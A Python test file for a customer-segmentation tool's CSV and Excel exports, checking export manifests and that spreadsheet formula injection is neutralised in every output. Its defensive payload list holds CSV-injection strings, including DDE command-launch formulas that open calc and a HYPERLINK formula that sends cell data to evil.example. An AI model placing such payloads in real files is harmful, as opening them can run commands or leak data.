"""Segment exports: CSV + manifest JSON, and .xlsx with a manifest sheet; formulas neutralised, numbers kept."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import sys
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from fixtures.helpers import make_store

from lgs_core.analyses import export, rfm
from lgs_core.app import data as data_model
from lgs_core.app import segments as segments_model
from lgs_core.query.window import Window
from lgs_core.store import store

REPO = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946", "'+44 20 7946"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Champions", "Champions"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert export.neutralise(text) == expected


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "customer_id": [12346, 12347],
            "country": ['=HYPERLINK("http://x")', "France"],
            "last_purchase": [datetime(2011, 1, 18, 10, 1), datetime(2011, 12, 7, 15, 52)],
            "recency_days": [-3, 2],
            "monetary": [Decimal("-77183.600"), Decimal("4310.000")],
            "segment": ["@risk", "Champions"],
        },
        schema_overrides={"monetary": pl.Decimal(38, 3)},
    )


def _manifest(rows: int = 99) -> dict[str, object]:
    params = rfm.RfmParams(preset="classic", segment_map="rfm11")
    return export.build_manifest(
        Window(date(2010, 1, 1), date(2011, 12, 9), ("France",), True),
        params,
        "v3-3",
        rows=rows,
        reference_date=date(2012, 1, 1),
        filters={"segment": ["Champions"]},
        created_at=datetime(2024, 5, 1, 12, 30, 15, 999),
    )


def test_build_manifest_records_what_reproduces_the_file() -> None:
    manifest = _manifest()
    assert manifest["window"] == {
        "start": "2010-01-01",
        "end": "2011-12-09",
        "countries": ["France"],
        "products_only": True,
    }
    assert manifest["parameters"]["preset"] == "classic"  # type: ignore[index]
    assert manifest["parameters"]["segment_map"] == "rfm11"  # type: ignore[index]
    assert manifest["data_version"] == "v3-3"
    assert manifest["created_at"] == "2024-05-01 12:30:15"
    assert manifest["reference_date"] == "2012-01-01"
    assert manifest["filters"] == {"segment": ["Champions"]}
    json.dumps(manifest)  # serialisable as it is


def test_csv_export() -> None:
    data, manifest_bytes = export.segment_export_csv(_frame(), _manifest())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == ["customer_id", "country", "last_purchase", "recency_days", "monetary", "segment"]
    assert rows[1] == [
        "12346",
        '\'=HYPERLINK("http://x")',
        "2011-01-18 10:01:00",
        "-3",
        "-77183.600",
        "'@risk",
    ]
    assert rows[2] == ["12347", "France", "2011-12-07 15:52:00", "2", "4310.000", "Champions"]
    manifest = json.loads(manifest_bytes)
    assert manifest["rows"] == 2  # the file's own count
    assert manifest["columns"] == rows[0]
    assert manifest["content_sha256"] == hashlib.sha256(data).hexdigest()


def test_xlsx_export_has_the_table_and_a_manifest_sheet() -> None:
    data = export.segment_export_xlsx(_frame(), _manifest(), sheet="customers")
    assert data[:2] == b"PK"
    sheets = pl.read_excel(io.BytesIO(data), sheet_id=0)
    assert list(sheets) == ["customers", "manifest"]
    table = sheets["customers"]
    assert table["country"].to_list() == ['\'=HYPERLINK("http://x")', "France"]
    assert table["segment"].to_list() == ["'@risk", "Champions"]
    assert table["recency_days"].to_list() == [-3, 2]  # numbers stay numbers
    assert table["monetary"].to_list() == [-77183.6, 4310.0]
    manifest = dict(sheets["manifest"].iter_rows())
    assert manifest["rows"] == "2"
    assert json.loads(manifest["window"])["countries"] == ["France"]


def test_empty_export() -> None:
    empty = _frame().clear()
    data, manifest_bytes = export.segment_export_csv(empty, _manifest())
    assert data.decode().splitlines() == ["customer_id,country,last_purchase,recency_days,monetary,segment"]
    assert json.loads(manifest_bytes)["rows"] == 0
    assert export.segment_export_xlsx(empty, _manifest())[:2] == b"PK"


# --- hostile text (issue #13, item 5): formulas and line breaks --------------------------------------------

# What a spreadsheet may run as a formula, as OWASP lists it ("CSV Injection"): = + - @, their full-width
# and small forms, a tab or a line break, behind nothing or behind the spaces, controls and zero-width
# characters a spreadsheet skips; then classic payloads, and line breaks inside a cell.
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\t\r\n"
LEADS = ("", " ", "\u3000", "\x00", "\u200b")
PAYLOADS = [
    *(lead + trigger + "cmd|' /C calc'!A0" for trigger in TRIGGERS for lead in LEADS),
    '=HYPERLINK("http://evil.example/?"&A1,"Click to verify")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "-2+3",
    "\r=cmd|' /C calc'!A0",
    "France\r=cmd|' /C calc'!A0",
    "France\n@SUM(1)",
    "France\r\n+1+1",
    "a,b\r\n=cmd",
    "x\u2028=cmd",
    "x\x0b-1+1",
    'say "=1"',
]
SKIPPED = " \u3000\x00\u200b"  # what a spreadsheet skips before it looks for a formula


def _runs_as_formula(cell: str) -> bool:
    """A spreadsheet's view: the cell starts a formula unless it is text (a leading ') or a number."""
    try:
        Decimal(cell)
        return False
    except ArithmeticError:
        pass
    for char in cell:
        if char in TRIGGERS:
            return True
        if char not in SKIPPED:
            return False
    return False


def test_every_payload_would_run_as_it_is() -> None:
    assert len(PAYLOADS) >= 52  # as many as were probed
    for payload in PAYLOADS:
        if payload != 'say "=1"':  # (that one is about quotes)
            assert any(_runs_as_formula(line) for line in [payload, *payload.splitlines()]), payload
        assert _runs_as_formula(payload) or export.neutralise(payload) != payload or '"' in payload


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "customer_id": list(range(len(PAYLOADS))),
            "country": PAYLOADS,
            "monetary": [Decimal("-1.500")] * len(PAYLOADS),
            "segment": list(reversed(PAYLOADS)),
        },
        schema_overrides={"monetary": pl.Decimal(38, 3)},
    )


def assert_csv_is_safe(data: bytes, expected_rows: int) -> list[list[str]]:
    """Read as a CSV reader that honours CR does, and as a naive reader that splits lines: no formula."""
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == expected_rows + 1  # no line break inside a cell started a row
    assert all(len(row) == len(rows[0]) for row in rows)
    for row in rows:
        for cell in row:
            assert not _runs_as_formula(cell), (cell, row)
    for line in text.splitlines():  # every line break Python knows, inside quotes or not
        assert not _runs_as_formula(line.lstrip('"')), line
    return rows


def test_the_csv_quotes_line_breaks_and_neutralises_every_formula() -> None:
    frame = _hostile_frame()
    rows = assert_csv_is_safe(export.frame_to_csv(frame), frame.height)
    for row, original in zip(rows[1:], PAYLOADS, strict=True):
        assert row[1] == export.neutralise(original)
        assert row[1].replace("'", "") == original.replace("'", "")  # only the ' marks were added
        assert row[2] == "-1.500"  # numbers stay numbers, their sign left alone


def test_a_carriage_return_never_starts_a_row() -> None:
    data = export.frame_to_csv(pl.DataFrame({"country": ["\r=cmd|' /C calc'!A0", "France"]}))
    assert data == b"country\n\"'\r'=cmd|' /C calc'!A0\"\nFrance\n"


def _unescaped(text: str) -> str:
    """Undo the xlsx escape of control characters (``_x000D_``: XML holds none), as Excel does on opening."""
    return re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_the_xlsx_holds_text_cells_that_never_run() -> None:
    from openpyxl import load_workbook

    frame = _hostile_frame()
    book = load_workbook(io.BytesIO(export.segment_export_xlsx(frame, _manifest())), read_only=False)
    sheet = book["customers"]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert len(cells) == frame.height
    for row, original in zip(cells, PAYLOADS, strict=True):
        country = row[1]
        assert country.data_type == "s"  # a string cell: a spreadsheet never evaluates it
        assert not _runs_as_formula(country.value), country.value
        assert _unescaped(country.value) == export.neutralise(original)
        assert row[2].data_type == "n" and row[2].value == -1.5


# --- every CSV and workbook the product writes ------------------------------------------------------------


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    """A real store whose countries are the payloads (one customer each) and whose quarantine holds them."""
    db = tmp_path / "store.duckdb"
    lines = [
        (f"{536000 + i}", "85123A", 6, "2011-06-01 10:00", "2.55", 12000 + i, payload)
        for i, payload in enumerate(PAYLOADS)
    ]
    con = make_store(db, lines)
    try:
        for i, payload in enumerate(PAYLOADS):
            con.execute(
                "insert into quarantine values (1, 'hostile.csv', null, $row, 'non-numeric quantity', $text, $text, "
                "$text, $text, '2011-06-01', '1.00', null, $text)",
                {"text": payload, "row": i + 1},
            )
    finally:
        con.close()
    return db


def test_the_cli_csv_of_hostile_countries_is_safe(hostile_store: Path, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "lgs_core", "rfm", "--format", "csv", "--db", str(hostile_store)],
        cwd=REPO,
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    rows = assert_csv_is_safe(done.stdout, len(PAYLOADS))
    country = rows[0].index("country")
    assert sorted(r[country] for r in rows[1:]) == sorted(export.neutralise(p) for p in PAYLOADS)

    out = tmp_path / "customers.xlsx"
    done = subprocess.run(
        [sys.executable, "-m", "lgs_core", "rfm", "--out", str(out), "--db", str(hostile_store)],
        cwd=REPO,
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    from openpyxl import load_workbook

    sheet = load_workbook(out)["customers"]
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "s"]
    assert texts and not any(_runs_as_formula(_unescaped(c.value)) for c in texts)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_quarantine_download_of_hostile_lines_is_safe(hostile_store: Path) -> None:
    con = store.connect(hostile_store, read_only=True)
    try:
        data = data_model.quarantine_csv(con)
    finally:
        con.close()
    rows = assert_csv_is_safe(data, len(PAYLOADS))
    description = rows[0].index("description")
    assert [r[description] for r in rows[1:]] == [export.neutralise(p) for p in PAYLOADS]


def test_the_apps_segment_download_of_hostile_countries_is_safe(hostile_store: Path) -> None:
    con = store.connect(hostile_store, read_only=True)
    try:
        seg = segments_model.segments(con, Window(), rfm.RfmParams())
    finally:
        con.close()
    chosen = sorted(set(seg.customers["segment"].to_list()))
    assert_csv_is_safe(segments_model.segment_csv(seg, chosen), len(PAYLOADS))
